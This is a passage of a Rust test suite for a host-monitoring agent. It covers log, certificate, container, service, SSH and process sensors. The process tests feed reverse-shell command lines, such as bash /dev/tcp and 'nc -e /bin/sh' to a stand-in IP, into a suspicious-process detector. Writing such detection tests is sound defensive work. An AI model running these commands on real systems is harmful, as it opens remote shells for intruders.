use std::collections::VecDeque;

use watchtower::agent::cmd::CommandRunner;
use watchtower::agent::hostid::{agent_host_id, resolve, resolve_from_text};
use watchtower::agent::journald::JournalLine;
use watchtower::agent::logs::TailState;
use watchtower::agent::procfs::NetDevErrors;
use watchtower::agent::sensors::accesslog::parse_combined;
use watchtower::agent::sensors::certs::{
    cert_severity, default_cert_paths, expand_paths, parse_enddate, scan_certs, PathLookup,
};
use watchtower::agent::sensors::disk::ro_transition;
use watchtower::agent::sensors::docker::{parse_docker_ps, ContainerState, ContainerTracker};
use watchtower::agent::sensors::fim_types::{change_event, mask_name, WatchedFile};
use watchtower::agent::sensors::health;
use watchtower::agent::sensors::health::HealthSignal;
use watchtower::agent::sensors::netflow::scan_fires;
use watchtower::agent::sensors::process::{
    cmdline_args, is_system_path, proc_entry, suspicious, ProcEntry,
};
use watchtower::agent::sensors::resource::{
    load_events, mem_events, netdev_events, swap_events, GaugeReading, LoadReading,
};
use watchtower::agent::sensors::security;
use watchtower::agent::sensors::security::{diff_snapshots, SecSignal};
use watchtower::agent::sensors::sshauth::{
    base_ssh_event, classify, AuthKind, BruteForceTracker, SeenIps,
};
use watchtower::agent::sensors::systemd::{
    systemctl_list_units, to_unsigned, CrashTracker, ServiceState,
};
use watchtower::agent::state::PersistedState;
use watchtower::agent::telemetry::{accepted, bearer, route, ship_plan, Spool};
use watchtower::civil::parse_gm_date;
use watchtower::common::{Config, EventKind, Severity};
use watchtower::table::Table;

// ------------------------------------------------------------- access logs

#[test]
fn parses_combined_line() {
    let line = r#"127.0.0.1 - - [07/Aug/2026:10:00:00 +0000] "GET /health HTTP/1.1" 200 5 "-" "curl/8.0""#;
    let al = parse_combined(line).unwrap();
    assert_eq!(al.ip, "127.0.0.1");
    assert_eq!(al.status, 200);
    assert_eq!(al.request, "GET /health HTTP/1.1");
}

#[test]
fn parses_5xx_and_malformed() {
    let line = r#"10.0.0.1 - - [07/Aug/2026:10:00:01 +0000] "POST /api/order HTTP/1.1" 503 12 "-" "curl/8.0""#;
    assert_eq!(parse_combined(line).unwrap().status, 503);
    assert!(parse_combined("not a log line").is_none());
    assert!(parse_combined("").is_none());
    assert!(
        parse_combined(r#""GET / HTTP/1.1" 200 1"#).is_none(),
        "no ip"
    );
}

// ------------------------------------------------------------ certificates

fn cfg_with(paths: Vec<String>) -> Config {
    Config {
        cert_paths: paths,
        cert_warn_days: 14,
        cert_crit_days: 3,
        ..Default::default()
    }
}

#[test]
fn parses_openssl_enddate() {
    let got = parse_enddate("notAfter=Sep 16 12:00:00 2026 GMT");
    assert!(got.is_some());
    let expected = parse_gm_date("Sep 16 12:00:00 2026").unwrap();
    assert_eq!(got.unwrap(), expected);
}

#[test]
fn enddate_parse_rejects_garbage() {
    assert!(parse_enddate("notAfter=foo").is_none());
    assert!(parse_enddate("").is_none());
}

#[test]
fn severity_by_remaining_days() {
    let cfg = cfg_with(vec![]);
    let now = parse_gm_date("Sep 1 00:00:00 2026").unwrap();
    let expires_in_10d = parse_gm_date("Sep 11 00:00:00 2026").unwrap();
    assert_eq!(cert_severity(expires_in_10d, now, &cfg), Severity::Warning);
    let expires_in_2d = parse_gm_date("Sep 3 00:00:00 2026").unwrap();
    assert_eq!(cert_severity(expires_in_2d, now, &cfg), Severity::Critical);
    let expires_in_30d = parse_gm_date("Oct 1 00:00:00 2026").unwrap();
    assert_eq!(cert_severity(expires_in_30d, now, &cfg), Severity::Info);
    let expired = parse_gm_date("Aug 1 00:00:00 2026").unwrap();
    assert_eq!(cert_severity(expired, now, &cfg), Severity::Critical);
}

#[test]
fn expand_paths_resolves_globs_and_files() {
    let paths = expand_paths(&vec![
        PathLookup {
            path: "/certs/live/*/cert.pem".into(),
            matches: vec!["/certs/live/example.com/cert.pem".into()],
            is_file: false,
        },
        PathLookup {
            path: "/definitely/missing.pem".into(),
            matches: vec![],
            is_file: false,
        },
    ]);
    assert_eq!(paths, vec!["/certs/live/example.com/cert.pem".to_string()]);
}

#[test]
fn plain_certificate_files_are_kept_where_they_are() {
    let found = expand_paths(&vec![PathLookup {
        path: "/etc/ssl/a.pem".into(),
        matches: vec!["/elsewhere".into()],
        is_file: true,
    }]);
    assert_eq!(found, vec!["/etc/ssl/a.pem".to_string()]);
    assert!(default_cert_paths().iter().any(|p| p.contains("letsencrypt")));
}

struct FakeOpenssl;

impl CommandRunner for FakeOpenssl {
    fn program(&self) -> &'static str {
        "openssl"
    }
    fn run(&self, _args: &[&str]) -> Result<String, String> {
        Ok("notAfter=Sep 10 00:00:00 2026 GMT\n".to_string())
    }
}

#[test]
fn scan_emits_for_expiring_cert() {
    let cfg = cfg_with(vec!["/etc/test/cert.pem".to_string()]);
    let now = parse_gm_date("Sep 1 00:00:00 2026").unwrap();
    let evs = scan_certs(
        &vec!["/etc/test/cert.pem".to_string()],
        &cfg,
        now,
        1000,
        "h-1",
        &FakeOpenssl,
    );
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].kind, EventKind::CertExpiring);
    assert_eq!(evs[0].severity, Severity::Warning);
    assert_eq!(evs[0].key, "cert:/etc/test/cert.pem");
}

// ------------------------------------------------------------------- disks

#[test]
fn ro_transition_first_sight_seeds_no_event() {
    let mut b = Table::new();
    assert!(!ro_transition(&mut b, "/run/systemd", true));
    assert_eq!(b.get(&"/run/systemd".to_string()), Some(&true));
}

#[test]
fn ro_transition_fires_only_on_rw_to_ro_flip() {
    let mut b = Table::new();
    assert!(!ro_transition(&mut b, "/data", false)); // seed rw
    assert!(!ro_transition(&mut b, "/data", false)); // rw→rw quiet
    assert!(ro_transition(&mut b, "/data", true)); // rw→ro fires
    assert!(!ro_transition(&mut b, "/data", true)); // ro→ro quiet
    assert!(!ro_transition(&mut b, "/data", false)); // ro→rw quiet
    assert!(ro_transition(&mut b, "/data", true)); // rw→ro re-fires
}

// ------------------------------------------------------------------ docker

const DOCKER_PS: &str = r#"{"ID":"a1","Image":"nginx","Command":"","CreatedAt":"","RunningFor":"","Ports":"","State":"running","Status":"Up 2 hours","Size":"","Names":"web","Labels":"","Mounts":""}
{"ID":"b2","Image":"app","Command":"","CreatedAt":"","RunningFor":"","Ports":"","State":"restarting","Status":"Restarting (1)","Size":"","Names":"worker","Labels":"","Mounts":""}
{"ID":"c3","Image":"redis","Command":"","CreatedAt":"","RunningFor":"","Ports":"","State":"exited","Status":"Exited (0)","Size":"","Names":"cache","Labels":"","Mounts":""}
"#;

#[test]
fn parses_ps_json_lines() {
    let containers = parse_docker_ps(DOCKER_PS).unwrap();
    assert_eq!(containers.len(), 3);
    let web = containers.iter().find(|c| c.name == "web").unwrap();
    assert_eq!(web.state, "running");
    let worker = containers.iter().find(|c| c.name == "worker").unwrap();
    assert_eq!(worker.state, "restarting");
    let cache = containers.iter().find(|c| c.name == "cache").unwrap();
    assert_eq!(cache.state, "exited");
}

#[test]
fn skips_non_json_lines() {
    let out = "not json\n\n{\"State\":\"running\",\"Names\":\"x\",\"ID\":\"1\",\"Image\":\"i\",\"Status\":\"Up\"}\n";
    let containers = parse_docker_ps(out).unwrap();
    assert_eq!(containers.len(), 1);
}

#[test]
fn a_line_may_be_an_array_of_the_five_texts() {
    let out = "[\"1\",\"web\",\"i\",\"running\",\"Up\"]\n[\"1\",\"web\",\"i\",\"running\"]\n[1,2,3,4,5]\n";
    let containers = parse_docker_ps(out).unwrap();
    assert_eq!(
        containers,
        vec![ContainerState {
            id: "1".into(),
            name: "web".into(),
            image: "i".into(),
            state: "running".into(),
        }]
    );
}

fn container(name: &str, state: &str) -> ContainerState {
    ContainerState {
        id: format!("id-{}", name),
        name: name.to_string(),
        image: String::new(),
        state: state.to_string(),
    }
}

#[test]
fn running_to_exited_emits_stopped() {
    let mut t = ContainerTracker::default();
    let mut evs = Vec::new();
    t.observe(&vec![container("web", "running")], 1000, "h-1", &mut evs);
    assert!(evs.is_empty());
    t.observe(&vec![container("web", "exited")], 2000, "h-1", &mut evs);
    let stopped = evs.iter().find(|e| e.kind == EventKind::ContainerStopped);
    assert!(stopped.is_some());
    assert_eq!(stopped.unwrap().severity, Severity::Warning);
    assert_eq!(stopped.unwrap().key, "docker:web");
}

#[test]
fn restarting_state_counts_as_crash_loop() {
    let mut t = ContainerTracker::default();
    let mut evs = Vec::new();
    t.observe(&vec![container("worker", "restarting")], 1000, "h-1", &mut evs);
    t.observe(&vec![container("worker", "restarting")], 2000, "h-1", &mut evs);
    t.observe(&vec![container("worker", "restarting")], 3000, "h-1", &mut evs);
    let loop_ev = evs.iter().find(|e| e.kind == EventKind::ContainerCrashLoop);
    assert!(loop_ev.is_some());
    assert_eq!(loop_ev.unwrap().severity, Severity::Critical);
}

#[test]
fn a_list_without_the_container_breaks_the_row() {
    let mut t = ContainerTracker::default();
    let mut evs = Vec::new();
    let seen = |state: &str| vec![container("worker", state)];
    t.observe(&seen("restarting"), 1000, "h-1", &mut evs);
    t.observe(&seen("restarting"), 2000, "h-1", &mut evs);
    t.observe(&vec![], 3000, "h-1", &mut evs);
    t.observe(&seen("restarting"), 4000, "h-1", &mut evs);
    t.observe(&seen("restarting"), 5000, "h-1", &mut evs);
    assert!(evs.is_empty());
    t.observe(&seen("restarting"), 6000, "h-1", &mut evs);
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].kind, EventKind::ContainerCrashLoop);
    assert_eq!(evs[0].evidence[0].detail, "Container=worker RestartCount=3");
    // the row goes on: every third list of it is a loop
    t.observe(&seen("restarting"), 7000, "h-1", &mut evs);
    t.observe(&seen("restarting"), 8000, "h-1", &mut evs);
    assert_eq!(evs.len(), 1);
    t.observe(&seen("restarting"), 9000, "h-1", &mut evs);
    assert_eq!(evs.len(), 2);
    // running, absent, exited: it did not stop under our eyes
    t.observe(&seen("running"), 10_000, "h-1", &mut evs);
    t.observe(&vec![], 11_000, "h-1", &mut evs);
    t.observe(&seen("exited"), 12_000, "h-1", &mut evs);
    assert_eq!(evs.len(), 2);
}

#[test]
fn steady_running_is_quiet() {
    let mut t = ContainerTracker::default();
    let mut evs = Vec::new();
    for ts in [1000, 2000, 3000] {
        t.observe(&vec![container("web", "running")], ts, "h-1", &mut evs);
    }
    assert!(evs.is_empty());
}

// ------------------------------------------------------------- file changes

#[test]
fn relevant_matches_only_target_filename() {
    let watcher = WatchedFile::new("/etc/myapp/config.yml");
    assert!(watcher.relevant(Some("config.yml")));
    assert!(!watcher.relevant(Some("config.yml.swp")));
    assert!(!watcher.relevant(Some("other.conf")));
    assert!(!watcher.relevant(None));
}

#[test]
fn watched_files_know_their_directory() {
    assert_eq!(WatchedFile::new("/etc/myapp/config.yml").parent(), "/etc/myapp");
    assert_eq!(WatchedFile::new("/hosts").parent(), "/");
    assert_eq!(WatchedFile::new("/etc/ssh//").file_name, "ssh");
    assert_eq!(WatchedFile::new("/etc/ssh//").parent(), "/etc");
}

#[test]
fn change_event_formatting() {
    let ev = change_event("/etc/myapp/config.yml", "CLOSE_WRITE", 1234, "h");
    assert_eq!(ev.kind, EventKind::FileChanged);
    assert_eq!(ev.severity, Severity::Warning);
    assert_eq!(ev.key, "fim:/etc/myapp/config.yml");
    assert_eq!(ev.summary, "/etc/myapp/config.yml changed (CLOSE_WRITE)");
    assert_eq!(ev.evidence[0].source, "fim");
}

#[test]
fn mask_name_maps_bits() {
    assert_eq!(mask_name(0x8), "CLOSE_WRITE");
    assert_eq!(mask_name(0x80), "MOVED_TO");
    assert_eq!(mask_name(0x200), "DELETE");
    assert_eq!(mask_name(0x2), "MODIFY");
    assert_eq!(mask_name(0x8 | 0x80), "CLOSE_WRITE|MOVED_TO");
    assert_eq!(mask_name(0), "OTHER");
}

// ------------------------------------------------------------------ health

fn line(ts_ms: i64, ident: &str, msg: &str) -> JournalLine {
    JournalLine {
        ts_ms,
        ident: ident.into(),
        pid: 0,
        message: msg.into(),
    }
}

fn kernel(msg: &str) -> JournalLine {
    line(1000, "kernel", msg)
}

#[test]
fn classifies_oom() {
    assert_eq!(
        health::classify(&kernel(
            "Out of memory: Killed process 1234 (nginx) total-vm:..."
        )),
        Some(HealthSignal::OomKill)
    );
}

#[test]
fn classifies_panic() {
    assert_eq!(
        health::classify(&kernel("Kernel panic - not syncing: Fatal exception")),
        Some(HealthSignal::KernelPanic)
    );
}

#[test]
fn classifies_clock_change() {
    assert_eq!(
        health::classify(&kernel("systemd[1]: Time has been changed")),
        Some(HealthSignal::ClockChange)
    );
}

#[test]
fn health_ignores_unrelated() {
    assert_eq!(health::classify(&kernel("normal log line")), None);
    assert_eq!(
        health::classify(&kernel("Out of memory: no process killed")),
        None
    );
}

// ----------------------------------------------------------------- network

#[test]
fn scan_fires_when_threshold_distinct_pairs_in_window() {
    let mut recent: VecDeque<(i64, String)> = VecDeque::new();
    for i in 0..30 {
        recent.push_back((1000, format!("10.0.0.{}:{}", i, 1000 + i)));
    }
    assert!(scan_fires(&recent, 1000, 10_000, 25));
}

#[test]
fn scan_does_not_fire_below_threshold() {
    let mut recent: VecDeque<(i64, String)> = VecDeque::new();
    for i in 0..3 {
        recent.push_back((1000, format!("10.0.0.{}:80", i)));
    }
    assert!(!scan_fires(&recent, 1000, 10_000, 25));
}

#[test]
fn scan_stale_pairs_pruned_from_window() {
    let mut recent: VecDeque<(i64, String)> = VecDeque::new();
    for i in 0..30 {
        recent.push_back((0, format!("10.0.0.{}:{}", i, 1000 + i)));
    }
    assert!(!scan_fires(&recent, 20_000, 10_000, 25));
    // a mix of fresh and stale pairs counts only the fresh ones
    let mut recent: VecDeque<(i64, String)> = VecDeque::new();
    for i in 0..25 {
        recent.push_back((0, format!("10.0.0.{}:80", i)));
    }
    recent.push_back((19_000, "10.9.9.9:80".into()));
    assert!(!scan_fires(&recent, 20_000, 10_000, 25));
}

// --------------------------------------------------------------- processes

fn entry(exe: &str, cmdline: &str) -> ProcEntry {
    ProcEntry {
        pid: 1,
        exe: exe.into(),
        cmdline: cmdline.into(),
        uid: 0,
    }
}

#[test]
fn flags_tmp_execution() {
    assert_eq!(
        suspicious(&entry("/tmp/x", "x")),
        Some("executable from /tmp/x".into())
    );
    assert_eq!(
        suspicious(&entry("/dev/shm/p", "p")),
        Some("executable from /dev/shm/p".into())
    );
}

#[test]
fn flags_reverse_shell_patterns() {
    assert!(suspicious(&entry("/bin/bash", "bash -c /dev/tcp/1.2.3.4/4444")).is_some());
    assert!(suspicious(&entry("/bin/nc", "nc -e /bin/sh 1.2.3.4 4444")).is_some());
    assert!(suspicious(&entry("/bin/sh", "/bin/sh -i")).is_some());
}

#[test]
fn ignores_normal_processes() {
    assert_eq!(
        suspicious(&entry("/usr/bin/nginx", "nginx: worker process")),
        None
    );
    assert_eq!(
        suspicious(&entry("/usr/bin/python3", "python3 app.py")),
        None
    );
}

#[test]
fn system_path_detection() {
    assert!(is_system_path("/usr/bin/nginx"));
    assert!(is_system_path("/opt/example/bin/tool"));
    assert!(!is_system_path("/home/alice/bin/evil"));
    assert!(!is_system_path("/tmp/evil"));
}

#[test]
fn scans_fake_proc_tree() {
    let raw = b"/tmp/evil\x00-e\x00/usr/bin/nc\x001.2.3.4\x004444".to_vec();
    let args: Vec<String> = cmdline_args(&raw)
        .into_iter()
        .map(|a| String::from_utf8_lossy(&a).into_owned())
        .collect();
    let p = proc_entry(
        "1",
        Some("/tmp/evil".into()),
        Some(args),
        Some("Uid:\t0\t0\t0\t0\n".into()),
    )
    .unwrap();
    assert_eq!(p.exe, "/tmp/evil");
    assert!(p.cmdline.contains("1.2.3.4"));
    assert_eq!(p.uid, 0);
    assert!(proc_entry("self", Some("/x".into()), None, None).is_none());
}

// --------------------------------------------------------------- resources

fn gauge(over: bool, pct: f64) -> GaugeReading {
    GaugeReading {
        over,
        whole: format!("{:.0}", pct),
        tenth: format!("{:.1}", pct),
    }
}

#[test]
fn memory_over_threshold_emits_warning() {
    let evs = mem_events(&gauge(85.0 >= 70.0, 85.0), "h-1", 1);
    assert_eq!(evs[0].kind, EventKind::MemHigh);
    assert_eq!(evs[0].severity, Severity::Warning);
}

#[test]
fn memory_under_threshold_emits_nothing() {
    let evs = mem_events(&gauge(30.0 >= 70.0, 30.0), "h-1", 1);
    assert!(evs.is_empty());
}

#[test]
fn swap_over_threshold_emits_warning() {
    let evs = swap_events(&gauge(60.0 >= 40.0, 60.0), "h-1", 1);
    assert_eq!(evs[0].kind, EventKind::SwapHigh);
}

#[test]
fn load_events_carry_their_severity() {
    let l = LoadReading {
        severity: Severity::Warning,
        load: "5.00".into(),
        ratio: "2.5".into(),
        cores: "2".into(),
        load_detail: "5".into(),
        cores_detail: "2".into(),
    };
    let evs = load_events(&l, "h-1", 1);
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].kind, EventKind::LoadHigh);
    assert_eq!(evs[0].severity, Severity::Warning);
    assert_eq!(evs[0].summary, "Load 5.00 is 2.5x the 2 cores");
    let calm = LoadReading {
        severity: Severity::Info,
        ..l
    };
    assert!(load_events(&calm, "h-1", 1).is_empty());
}

#[test]
fn netdev_tx_errors_emit_warning() {
    let mut map = Table::new();
    map.set("eth0".to_string(), NetDevErrors { rx: 0, tx: 7 });
    let evs = netdev_events(&map, "h-1", 1);
    assert_eq!(evs[0].kind, EventKind::NetDevErrors);
    assert_eq!(evs[0].key, "netdev:eth0");
}

#[test]
fn netdev_rx_errors_emit_warning() {
    let mut map = Table::new();
    map.set("eth1".to_string(), NetDevErrors { rx: 7, tx: 0 });
    let evs = netdev_events(&map, "h-1", 1);
    assert_eq!(evs[0].kind, EventKind::NetDevErrors);
    assert_eq!(evs[0].key, "netdev:eth1");
}

// ---------------------------------------------------------------- security

#[test]
fn classifies_user_changes() {
    assert_eq!(
        security::classify(&line(1000, "useradd", "new user: name=alice")),
        Some(SecSignal::NewUser("new user: name=alice".into()))
    );
    assert_eq!(
        security::classify(&line(1000, "usermod", "change user bob")),
        Some(SecSignal::NewUser("change user bob".into()))
    );
}

#[test]
fn classifies_package_changes() {
    assert_eq!(
        security::classify(&line(1000, "dpkg", "status installed nginx:amd64 1.18.0")),
        Some(SecSignal::PackageInstalled(
            "status installed nginx:amd64 1.18.0".into()
        ))
    );
    assert_eq!(
        security::classify(&line(1000, "apt", "Install: redis-server:amd64")),
        Some(SecSignal::PackageInstalled(
            "Install: redis-server:amd64".into()
        ))
    );
}

#[test]
fn security_ignores_unrelated() {
    assert_eq!(
        security::classify(&line(1000, "systemd", "Started nginx.service.")),
        None
    );
    assert_eq!(security::classify(&line(1000, "kernel", "normal line")), None);
    assert_eq!(
        security::classify(&line(1000, "dpkg", "startup archives unpack")),
        None
    );
}

fn snapshot(files: &[(&str, i64, u64)]) -> Table<String, (i64, u64)> {
    let mut t = Table::new();
    for (name, mtime, size) in files {
        t.set(name.to_string(), (*mtime, *size));
    }
    t
}

#[test]
fn snapshot_diff_detects_modified_added_removed() {
    let before = snapshot(&[("a.conf", 1, 3), ("b.conf", 1, 3)]);
    let after = snapshot(&[("a.conf", 2, 7), ("c.conf", 2, 3)]);
    let mut changed = diff_snapshots(&before, &after);
    changed.sort();
    assert_eq!(changed, vec!["a.conf", "b.conf", "c.conf"]);
}

#[test]
fn snapshot_diff_is_the_same_both_ways_round() {
    let before = snapshot(&[("a", 1, 3), ("b", 1, 3), ("c", 5, 5)]);
    let after = snapshot(&[("d", 1, 1), ("c", 5, 5), ("a", 1, 4)]);
    let mut there = diff_snapshots(&before, &after);
    let mut back = diff_snapshots(&after, &before);
    there.sort();
    back.sort();
    assert_eq!(there, vec!["a", "b", "d"]);
    assert_eq!(there, back);
}

#[test]
fn snapshot_diff_empty_when_unchanged() {
    let before = snapshot(&[("a.conf", 1, 3)]);
    let after = snapshot(&[("a.conf", 1, 3)]);
    assert!(diff_snapshots(&before, &after).is_empty());
}

// --------------------------------------------------------------------- ssh

#[test]
fn failures_are_counted_since_the_last_episode() {
    let mut bf = BruteForceTracker::new(3, 10);
    assert_eq!(bf.observe_failure("u", "a", 0), (false, 1));
    assert_eq!(bf.observe_failure("u", "b", 0), (false, 1));
    assert_eq!(bf.observe_failure("u", "a", 5_000), (false, 2));
    // the first is just outside the window
    assert_eq!(bf.observe_failure("u", "a", 10_001), (false, 2));
    // the second just within it
    assert_eq!(bf.observe_failure("u", "a", 15_000), (true, 3));
    assert_eq!(bf.observe_failure("u", "a", 15_000), (false, 1));
    assert_eq!(bf.observe_failure("v", "a", 15_000), (false, 1));
    assert_eq!(bf.observe_failure("u", "a", 15_001), (false, 2));
    assert_eq!(bf.observe_failure("u", "a", 15_002), (true, 3));
}

#[test]
fn classifies_accepted_login() {
    let l = line(
        1000,
        "sshd",
        "Accepted publickey for deploy from 198.51.100.24 port 51234 ssh2: RSA",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SshLogin);
    assert_eq!(ev.user, "deploy");
    assert_eq!(ev.ip, "198.51.100.24");
}

#[test]
fn classifies_failed_password() {
    let l = line(
        1000,
        "sshd",
        "Failed password for root from 203.0.113.7 port 40000 ssh2",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SshFailed);
    assert_eq!(ev.user, "root");
    assert_eq!(ev.ip, "203.0.113.7");
}

#[test]
fn classifies_invalid_user_failure() {
    let l = line(
        1000,
        "sshd",
        "Failed password for invalid user root from 203.0.113.7 port 40002 ssh2",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SshFailed);
    assert_eq!(ev.user, "root"); // "invalid user " prefix stripped
    assert_eq!(ev.ip, "203.0.113.7");
}

#[test]
fn classifies_max_attempts_as_failed() {
    let l = line(
        1000,
        "sshd",
        "error: maximum authentication attempts exceeded for root from 203.0.113.7 port 40001 ssh2",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SshFailed);
    assert_eq!(ev.user, "root");
    assert_eq!(ev.ip, "203.0.113.7");
}

#[test]
fn classifies_keyboard_interactive_failure() {
    let l = line(
        1000,
        "sshd",
        "Failed keyboard-interactive for deploy from 198.51.100.24 port 51236 ssh2",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SshFailed);
    assert_eq!(ev.user, "deploy");
    assert_eq!(ev.ip, "198.51.100.24");
}

#[test]
fn classifies_root_login() {
    let l = line(
        1000,
        "sshd",
        "Accepted password for root from 198.51.100.24 port 51235 ssh2",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::RootLogin);
    assert_eq!(ev.user, "root");
}

#[test]
fn classifies_sudo() {
    let l = line(
        1000,
        "sudo",
        "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/systemctl restart nginx",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::SudoUsed);
    assert_eq!(ev.user, "deploy");
    assert!(ev.detail.contains("systemctl restart nginx"));
}

#[test]
fn classifies_su_to_root() {
    let l = line(
        1000,
        "su",
        "pam_unix(su:session): session opened for user root by (uid=1000)",
    );
    let ev = classify(&l).expect("classified");
    assert_eq!(ev.kind, AuthKind::RootLogin);
    assert_eq!(ev.user, "root");
}

#[test]
fn ignores_sshd_session_opened() {
    let l = line(
        1000,
        "sshd",
        "pam_unix(sshd:session): session opened for user deploy by (uid=1000)",
    );
    assert!(classify(&l).is_none());
}

#[test]
fn ignores_unrelated_lines() {
    let l = line(1000, "cron", "(root) CMD ( /usr/lib/atop/atop.daily )");
    assert!(classify(&l).is_none());
    let l = line(
        1000,
        "sshd",
        "Received disconnect from 198.51.100.24 port 51234:11",
    );
    assert!(classify(&l).is_none());
}

#[test]
fn first_seen_and_root_escalate_severity() {
    let login = base_ssh_event("deploy", "198.51.100.24", Severity::Info);
    assert_eq!(login.suggest_severity(true), Severity::Warning); // first-seen login
    assert_eq!(login.suggest_severity(false), Severity::Info); // known ip

    let root = base_ssh_event("root", "198.51.100.24", Severity::Warning);
    assert_eq!(root.suggest_severity(true), Severity::Critical);
    assert_eq!(root.suggest_severity(false), Severity::Warning);
    let crit = base_ssh_event("root", "198.51.100.24", Severity::Critical);
    assert_eq!(crit.suggest_severity(true), Severity::Critical);
}

#[test]
fn seen_ips_tracks_uniqueness() {
    let mut seen = SeenIps::default();
    assert!(seen.is_first("198.51.100.24"));
    assert!(!seen.is_first("198.51.100.24"));
    assert!(seen.is_first("203.0.113.7"));
}

#[test]
fn brute_force_triggers_episode_at_threshold() {
    let mut bf = BruteForceTracker::new(5, 300);
    assert!(!bf.observe_failure("root", "203.0.113.7", 1000).0);
    assert!(!bf.observe_failure("root", "203.0.113.7", 1010).0);
    assert!(!bf.observe_failure("root", "203.0.113.7", 1020).0);
    assert!(!bf.observe_failure("root", "203.0.113.7", 1030).0);
    let (triggered, count) = bf.observe_failure("root", "203.0.113.7", 1040);
    assert!(triggered);
    assert_eq!(count, 5);
    let (triggered, _) = bf.observe_failure("deploy", "203.0.113.7", 1050);
    assert!(!triggered);
}

#[test]
fn brute_force_prunes_outside_window() {
    let mut bf = BruteForceTracker::new(2, 10);
    assert!(!bf.observe_failure("root", "1.1.1.1", 1000).0);
    assert!(!bf.observe_failure("root", "1.1.1.1", 12000).0); // 1000 pruned (1000+10000 < 12000)
    assert!(!bf.observe_failure("root", "1.1.1.1", 23000).0); // 12000 pruned (12000+10000 < 23000)
}

// ---------------------------------------------------------------- services

struct UnitRunner {
    out: String,
}

impl CommandRunner for UnitRunner {
    fn program(&self) -> &'static str {
        "systemctl"
    }
    fn run(&self, _args: &[&str]) -> Result<String, String> {
        Ok(self.out.clone())
    }
}

const LIST: &str = "\
sshd.service        loaded active running sshd
nginx.service       loaded failed  failed  nginx
cron.service        loaded active running cron
";

#[test]
fn parses_service_states_from_list_units_output() {
    let states = systemctl_list_units(&UnitRunner { out: LIST.into() }).unwrap();
    let of = |unit: &str| *states.get(&unit.to_string()).unwrap();
    assert_eq!(of("sshd.service"), ServiceState::Active);
    assert_eq!(of("nginx.service"), ServiceState::Failed);
    assert_eq!(of("cron.service"), ServiceState::Active);
}

#[test]
fn active_to_failed_transition_emits_service_failed_event() {
    let mut m = CrashTracker::new(120);
    let mut evs = Vec::new();
    m.observe("nginx.service", ServiceState::Active, 1000, "h-1", &mut evs);
    assert!(evs.is_empty());
    m.observe("nginx.service", ServiceState::Failed, 1015, "h-1", &mut evs);
    assert_eq!(evs[0].kind, EventKind::ServiceFailed);
    assert_eq!(evs[0].key, "svc:nginx.service");
    assert_eq!(evs[0].severity, Severity::Warning);
    assert_eq!(evs[0].host_id, "h-1");
}

#[test]
fn a_time_before_1970_stays_one() {
    assert_eq!(to_unsigned(7), 7);
    assert_eq!(to_unsigned(-5), u64::MAX - 4);
    let mut m = CrashTracker::new(120);
    let mut evs = Vec::new();
    m.observe("a.service", ServiceState::Failed, to_unsigned(-5), "h-1", &mut evs);
    assert_eq!(evs[0].ts, -5000);
    assert_eq!(evs[0].id, "a.service-h-1-18446744073709551611");
}

#[test]
fn three_restarts_within_window_is_crash_loop() {
    let mut m = CrashTracker::new(120);
    let mut evs = Vec::new();
    for ts in [1000, 1010, 1020, 1030, 1040, 1050] {
        m.observe("flaky.service", ServiceState::Active, ts, "h-1", &mut evs);
        m.observe(
            "flaky.service",
            ServiceState::Failed,
            ts + 5,
            "h-1",
            &mut evs,
        );
    }
    let crash = evs
        .iter()
        .filter(|e| e.kind == EventKind::ServiceCrashLoop)
        .count();
    assert!(crash >= 1, "expected crash-loop event, got {evs:?}");
}

#[test]
fn only_the_units_own_restarts_within_the_window_count() {
    let mut m = CrashTracker::new(100);
    let mut evs = Vec::new();
    let mut fail = |m: &mut CrashTracker, unit: &str, ts: u64| {
        evs.clear();
        m.observe(unit, ServiceState::Active, ts, "h-1", &mut evs);
        m.observe(unit, ServiceState::Failed, ts, "h-1", &mut evs);
        (evs.len(), evs[0].kind)
    };
    assert_eq!(fail(&mut m, "a.service", 0), (1, EventKind::ServiceFailed));
    assert_eq!(fail(&mut m, "b.service", 40), (1, EventKind::ServiceFailed));
    assert_eq!(fail(&mut m, "a.service", 50), (1, EventKind::ServiceFailed));
    // the restart at 0 is just within the window, then just outside it
    assert_eq!(fail(&mut m, "a.service", 100), (1, EventKind::ServiceCrashLoop));
    assert_eq!(fail(&mut m, "a.service", 151), (1, EventKind::ServiceFailed));
    assert_eq!(fail(&mut m, "a.service", 152), (1, EventKind::ServiceCrashLoop));
}

#[test]
fn restarts_older_than_window_do_not_crash_loop() {
    let mut m = CrashTracker::new(10);
    let mut evs = Vec::new();
    for ts in [1000u64, 2000, 2010, 2020] {
        m.observe("ok.service", ServiceState::Active, ts, "h-1", &mut evs);
        m.observe("ok.service", ServiceState::Failed, ts + 5, "h-1", &mut evs);
    }
    assert!(!evs.iter().any(|e| e.kind == EventKind::ServiceCrashLoop));
}

#[test]
fn staying_failed_does_not_accumulate_restarts() {
    let mut m = CrashTracker::new(120);
    let mut evs = Vec::new();
    for ts in [1000u64, 1015, 1030] {
        m.observe("stuck.service", ServiceState::Failed, ts, "h-1", &mut evs);
    }
    assert_eq!(evs.len(), 1);
    assert_eq!(evs[0].kind, EventKind::ServiceFailed);
    assert!(!evs.iter().any(|e| e.kind == EventKind::ServiceCrashLoop));
}

// --------------------------------------------------- host id, logs, shipping

#[test]
fn resolves_machine_id_file() {
    assert_eq!(
        resolve_from_text(Some("abc123def\n".into())),
        Some("abc123def".to_string())
    );
}

#[test]
fn machine_id_missing_returns_none() {
    assert_eq!(resolve_from_text(None), None);
}

#[test]
fn blank_machine_id_returns_none() {
    assert_eq!(resolve_from_text(Some("   \n".into())), None);
}

#[test]
fn host_id_falls_through_its_sources() {
    assert_eq!(resolve(Some("m".into()), Some("d".into()), None), "m");
    assert_eq!(resolve(Some(" ".into()), Some("d\n".into()), None), "d");
